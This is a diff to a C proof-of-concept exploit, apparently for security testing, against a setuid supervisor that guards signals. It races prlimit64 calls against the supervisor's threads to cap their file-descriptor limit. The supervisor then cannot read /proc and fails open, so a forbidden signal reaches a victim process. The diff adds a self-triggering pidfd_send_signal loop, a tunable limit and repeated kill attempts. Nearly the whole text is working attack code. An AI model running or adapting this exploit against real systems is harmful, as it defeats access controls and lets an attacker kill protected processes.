@@ -7,12 +7,15 @@
  *   r1 prlimit SUP SACRIFICE VICTIM SIG
  *        SUP is the supervisor (the setuid shell's pid: getppid() of the
  *        shell it starts).  A racer thread lists SUP/task and calls
- *        prlimit64(TID, RLIMIT_NOFILE, {0,0}) on every thread.  The main
+ *        prlimit64(TID, RLIMIT_NOFILE, {3,3}) on every thread ($R1_NOFILE
+ *        overrides 3; with 0 the supervisor dies in poll(): EINVAL).  The main
  *        thread kill(SACRIFICE, SIGKILL)s: the guard rewrites that into
  *        pg_terminate_backend on an act-as thread that carries OUR uid, so
  *        prlimit's same-uid rule lets us cap the WHOLE supervisor's
  *        RLIMIT_NOFILE.  Then kill(VICTIM, SIG): quick_pass() cannot open
  *        /proc/VICTIM/comm (EMFILE) and answers CONTINUE.
+ *        SACRIFICE "self": no cluster process needed, loop
+ *        pidfd_send_signal(pidfd(self), SIGWINCH) (also an act-as thread).
  *        Prints "prlimit: hit TID", "supervisor NOFILE: ..." and "kill: ok"
  *        when the signal went through.
  *   r1 tkill SUP SACRIFICE SIG
@@ -58,11 +61,13 @@ static long raw_kill(long pid, long sig)
 
 static pid_t sup;
 static int mode_sig;
+static rlim_t nofile = 3;	/* poll() of 2 fds still works; every open() fails */
 static atomic_int stop, hit;
 static enum { M_PRLIMIT, M_TKILL } mode;
 
-static void *racer(void *p)
+static void *racer(void *unused)
 {
+	(void)unused;
 	char path[64];
 	snprintf(path, sizeof(path), "/proc/%d/task", (int)sup);
 	while (!atomic_load(&stop)) {
@@ -75,7 +80,7 @@ static void *racer(void *p)
 			if (tid <= 0 || tid == sup)
 				continue;
 			if (mode == M_PRLIMIT) {
-				struct rlimit rl = {0, 0};
+				struct rlimit rl = {nofile, nofile};
 				if (syscall(SYS_prlimit64, tid, RLIMIT_NOFILE, &rl, NULL) == 0) {
 					if (!atomic_exchange(&hit, (int)tid))
 						printf("prlimit: hit %ld\n", tid);
@@ -118,12 +123,23 @@ int main(int argc, char **argv)
 		pthread_t t;
 		long r;
 		sup = atoi(argv[2]);
+		if (getenv("R1_NOFILE"))
+			nofile = (rlim_t)atol(getenv("R1_NOFILE"));
 		mode = !strcmp(argv[1], "prlimit") ? M_PRLIMIT : M_TKILL;
 		mode_sig = mode == M_TKILL ? atoi(argv[4]) : 0;
 		pthread_create(&t, NULL, racer, NULL);
 		usleep(20000);
-		r = raw_kill(atol(argv[3]), SIGKILL);	/* rewritten: pg_terminate_backend */
-		printf("sacrifice kill: %s\n", en((int)-r));
+		if (!strcmp(argv[3], "self")) {
+			/* no cluster needed: pidfd_send_signal(pidfd(self), SIGWINCH) is
+			 * made by the supervisor on an act-as thread; repeat until hit */
+			int pfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
+			for (int i = 0; i < 200000 && !atomic_load(&hit); i++)
+				syscall(SYS_pidfd_send_signal, pfd, SIGWINCH, NULL, 0);
+			printf("sacrifice: pidfd_send_signal(self) loop done\n");
+		} else {
+			r = raw_kill(atol(argv[3]), SIGKILL);	/* rewritten: pg_terminate_backend */
+			printf("sacrifice kill: %s\n", en((int)-r));
+		}
 		usleep(50000);
 		atomic_store(&stop, 1);
 		pthread_join(t, NULL);
@@ -132,8 +148,10 @@ int main(int argc, char **argv)
 		if (mode == M_TKILL)
 			return 0;
 		show_limits();
-		r = raw_kill(atol(argv[4]), atol(argv[5]));
-		printf("kill: %s\n", en((int)-r));
+		for (int i = 0; i < 3; i++) {	/* the supervisor stays up, failing open */
+			r = raw_kill(atol(argv[4]), atol(argv[5]));
+			printf("kill: %s\n", en((int)-r));
+		}
 		return 0;
 	}
 	fprintf(stderr, "usage: see the comment at the top of r1.c\n");
